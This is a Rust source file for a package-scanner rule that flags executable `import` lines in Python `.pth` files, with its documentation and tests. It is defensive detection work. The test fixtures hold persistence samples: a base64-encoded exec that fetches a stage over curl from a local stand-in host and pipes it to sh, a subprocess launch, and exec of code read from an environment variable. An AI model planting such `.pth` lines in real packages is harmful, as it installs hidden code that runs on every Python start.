use palisade_diagnostics::{Finding, Severity};

use crate::context::ScanContext;
use crate::rule::{Rule, RuleMeta, declare_rule};

declare_rule! {
    /// ## What it does
    /// Finds lines of a Python `.pth` file that start with `import`: Python's
    /// `site` module runs them at every interpreter start, long after the
    /// install. A line that starts processes, reaches the network, decodes
    /// and runs code or reads secrets is critical; one that only calls
    /// `exec`/`eval` is high; any other executable line is low (setuptools
    /// and virtualenv ship small ones).
    ///
    /// ## Why is this bad?
    /// A `.pth` file in site-packages is code that runs in every Python
    /// process on the machine, whether or not the package is ever imported.
    /// Attackers use it to start stealers and back doors from a wheel that
    /// has no install step at all.
    ///
    /// ## Example
    /// ```text
    /// import base64; exec(base64.b64decode('aW1wb3J0IG9z...'))
    /// ```
    ///
    /// ## References
    /// - LiteLLM 1.82.8 on PyPI (2026): a `.pth` file that ran a credential stealer.
    /// - MITRE ATT&CK T1546 (Event Triggered Execution).
    PthExecutableLine {
        id: "persistence/pth-executable-line",
        severity: Critical,
        status: Stable,
        summary: "A `.pth` file runs code at every Python start",
    }
}

impl Rule for PthExecutableLine {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        let f = ctx.facts;
        for line in f.other.iter().filter(|o| o.kind == "pth-exec") {
            let loc = &line.at.location;
            let here = |at: &palisade_diagnostics::Fact| {
                at.location.path == loc.path && at.location.line == loc.line
            };
            let mut does: Vec<&str> = Vec::new();
            if f.processes.iter().any(|p| here(&p.at)) {
                does.push("starts processes");
            }
            if f.network.iter().any(|n| n.api.is_some() && here(&n.at)) {
                does.push("reaches the network");
            }
            if f.decode_run.iter().any(|d| here(&d.at)) {
                does.push("decodes and runs code");
            }
            if f.paths.iter().any(|p| here(&p.at)) || f.flows.iter().any(|x| here(&x.at)) {
                does.push("reads secrets");
            }
            let runs_code = ["exec(", "eval(", "compile("]
                .iter()
                .any(|s| line.detail.contains(s));
            let (severity, what) = if !does.is_empty() {
                (Severity::Critical, does.join(", "))
            } else if runs_code {
                (Severity::High, "runs dynamically built code".to_owned())
            } else {
                (Severity::Low, "runs code".to_owned())
            };
            out.push(
                ctx.at(
                    Finding::new(
                        Self::META.id,
                        severity,
                        format!("`{}` {what} at every Python start", loc.path),
                    ),
                    loc,
                )
                .with_help("a `.pth` file should only list folders; remove the `import` line")
                .at_install_time(true)
                .with_capability("persistence"),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    #[test]
    fn rule() {
        Tester::new(&PthExecutableLine::META).test(
            &[
                Case::Files(&[
                    ("demo-1.0.dist-info/METADATA", "Name: demo\nVersion: 1.0\n"),
                    ("demo_init.pth", "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLXMgaHR0cDovLzEyNy4wLjAuMTo4MDAwL3N0YWdlMiB8IHNoIik='))\n"),
                ]),
                Case::Files(&[
                    ("PKG-INFO", "Name: demo\nVersion: 1.0\n"),
                    ("demo.pth", "./lib\nimport subprocess; subprocess.Popen(['python', '-c', 'x'])\n"),
                ]),
                Case::Files(&[
                    ("demo-1.0.dist-info/METADATA", "Name: demo\nVersion: 1.0\n"),
                    ("hook.pth", "import os; exec(os.environ.get('HOOK', ''))\n"),
                ]),
            ],
            &[
                Case::Files(&[
                    ("demo-1.0.dist-info/METADATA", "Name: demo\nVersion: 1.0\n"),
                    ("demo.pth", "/opt/demo/lib\n./src\n# import os\n"),
                ]),
                // An npm package's `.pth` file is not Python's business.
                Case::Files(&[
                    ("package.json", r#"{"name":"a","version":"1.0.0"}"#),
                    ("x.pth", "import os; os.system('id')\n"),
                ]),
            ],
        );
    }
}
